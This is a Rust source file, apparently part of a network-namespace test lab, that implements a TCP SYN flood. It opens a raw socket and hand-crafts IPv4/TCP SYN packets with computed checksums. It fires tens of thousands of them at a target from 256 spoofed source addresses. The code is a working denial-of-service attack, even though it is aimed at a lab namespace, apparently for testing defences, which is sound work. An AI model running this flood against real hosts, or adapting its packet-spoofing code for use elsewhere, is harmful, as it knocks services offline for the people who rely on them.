//! Packets that claim to come from others: requests for connections whose answers nobody takes (RFC 4987).

use std::{
    io,
    net::{Ipv4Addr, SocketAddr, SocketAddrV4},
};

use socket2::{Domain, Protocol, Socket, Type};

use super::hands::{Attack, hands};
use crate::lab::net::Namespace;

const TCP: u8 = 6;
const SYN: u8 = 2;
/// The addresses that packets claim to come from. More of them would fill the table of neighbours that all namespaces
/// of the machine share.
const SOURCES: u32 = 256;
/// The packets between two looks at the order to stop.
const AT_ONCE: u32 = 64;

/// Requests for connections to `to`, each from another address and port.
pub(super) fn requests(from: &Namespace, to: SocketAddrV4) -> Result<Attack, String> {
    hands(from, 1, move |blows| async move {
        let protocol = Protocol::from(libc::IPPROTO_RAW);
        let socket = Socket::new(Domain::IPV4, Type::RAW.nonblocking(), Some(protocol))?;
        for n in 1..=u32::from(u16::MAX) {
            let source = Ipv4Addr::from_bits(0xC612_0000 | (n % SOURCES));
            let port = u16::try_from(n).unwrap_or_default();
            match socket.send_to(&request(SocketAddrV4::new(source, port), to), &SocketAddr::from(to).into())
            {
                Ok(_) => blows.dealt(1),
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => tokio::task::yield_now().await,
                Err(error) => return Err(error),
            }
            if n % AT_ONCE == 0 {
                tokio::task::yield_now().await;
            }
        }
        Ok(())
    })
}

/// A TCP segment that asks for a connection, in an IPv4 packet (RFC 791 and RFC 9293).
fn request(from: SocketAddrV4, to: SocketAddrV4) -> Vec<u8> {
    let ends = [from.ip().octets(), to.ip().octets()].concat();
    let mut segment = [from.port().to_be_bytes(), to.port().to_be_bytes()].concat();
    // Numbers of sequence and answer, five words of header, the flag, the window, checksum and urgent pointer.
    segment.extend([0, 0, 0, 1, 0, 0, 0, 0, 5 << 4, SYN, 0xFF, 0xFF, 0, 0, 0, 0]);
    let length = u16::try_from(segment.len()).unwrap_or_default().to_be_bytes();
    let sum = checksum(&[&ends[..], &[0, TCP], &length, &segment].concat()).to_be_bytes();
    drop(segment.splice(16..18, sum));
    let whole = u16::try_from(20 + segment.len()).unwrap_or_default().to_be_bytes();
    let mut header = vec![0x45, 0];
    header.extend(whole);
    header.extend([0, 0, 0, 0, 64, TCP, 0, 0]);
    header.extend(ends);
    let sum = checksum(&header).to_be_bytes();
    drop(header.splice(10..12, sum));
    header.extend(segment);
    header
}

/// The checksum of the internet (RFC 1071). `bytes` has an even length.
fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks(2).map(|pair| match pair {
        [high, low] => u32::from(u16::from_be_bytes([*high, *low])),
        _ => 0,
    });
    let mut sum: u32 = words.sum();
    while sum > 0xFFFF {
        sum = (sum & 0xFFFF) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or_default()
}

#[cfg(test)]
mod tests;
